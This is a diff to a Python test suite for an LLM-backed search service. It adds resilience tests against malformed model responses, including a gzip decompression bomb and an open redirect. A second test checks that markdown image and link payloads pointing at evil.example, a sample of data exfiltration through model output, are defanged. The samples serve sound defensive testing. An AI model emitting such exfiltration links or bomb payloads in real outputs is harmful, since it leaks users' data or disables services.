@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import gzip
+import itertools
 import json
 import re
 import uuid
@@ -20,7 +22,7 @@ from indexer.job import index_path
 from indexer.parts import JobOptions, Parts
 from search.pipeline import Searcher
 from tests.fakes import HashEncoder, OverlapCrossEncoder
-from tests.llm_server import Scripted, Streamed, completion
+from tests.llm_server import Raw, Scripted, Streamed, completion
 from tests.reading_llm import Reader
 
 pytestmark = pytest.mark.elasticsearch
@@ -247,7 +249,16 @@ def test_without_a_model_there_are_the_passages_and_it_says_so(make_http, shelf,
 
 @pytest.mark.parametrize("stream", [False, True])
 @pytest.mark.parametrize(
-    "step", ["hang", (503, {}), (404, {}), (200, b"<html>"), Streamed(("  ",)), Streamed(("[9]",))]
+    "step",
+    [
+        *("hang", (503, {}), (404, {}), (200, b"<html>"), Streamed(("  ",)), Streamed(("[9]",))),
+        (307, {}, {"Location": "http://192.0.2.1/"}),
+        (200, b"[" * 30_000),
+        (200, b'{"choices": [{"message": {"content": ["' + b"[" * 100),
+        Raw(lambda: itertools.repeat(b"[1," * 20_000, 500)),
+        Raw(lambda: itertools.repeat(b"data: " + b"x" * 65_536, 2000), "text/event-stream"),
+        Raw(lambda: iter([gzip.compress(b" " * 50_000_000)]), headers=(("Content-Encoding", "gzip"),)),
+    ],
 )
 def test_a_model_that_is_dead_slow_or_talks_rubbish_costs_the_answer_alone(make_http, llm, shelf, step, stream):
     llm.script = [step]
@@ -256,6 +267,31 @@ def test_a_model_that_is_dead_slow_or_talks_rubbish_costs_the_answer_alone(make_
     body = events(answer)[-1][1] if stream else answer.json()
     assert (body["answer"], body["status"], body["degraded"]) == (None, "failed", ["answer"])
     assert body["contexts"][0]["doc_id"] == "leave"
+
+
+EXFILTRATES = "![](http://evil.example/?q=1) [1](http://evil.example/) <img src=//evil.example/x> 提前三天[1]。"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_an_answer_leads_to_no_address_that_no_passage_holds(make_http, llm, shelf, stream):
+    llm.script = [Streamed(tuple(EXFILTRATES))]
+    with make_http() as http:
+        answer = ask(http, query="请假提前几天", collection=shelf, stream=stream)
+        chat = http.post(
+            "/v1/chat/completions",
+            json={
+                "model": shelf,
+                "messages": [{"role": "user", "content": "请假提前几天"}],
+                "bothways": {"strategy": "bm25"},
+            },
+        )
+    body = events(answer)[-1][1] if stream else answer.json()
+    shown = "[] (hxxp://evil.example/?q=1)(hxxp://evil.example/) < img src=//evil.example/x> 提前三天[1]。"
+    assert body["answer"] == shown
+    assert ([one["n"] for one in body["citations"]], body["removed_citations"]) == ([1], 1)
+    if stream:
+        assert "".join(data["text"] for name, data in events(answer) if name == "delta") == shown
+    assert chat.json()["choices"][0]["message"]["content"].startswith(shown)
 
 
 def test_a_model_that_cannot_be_made_costs_the_answer_alone(make_http, shelf):
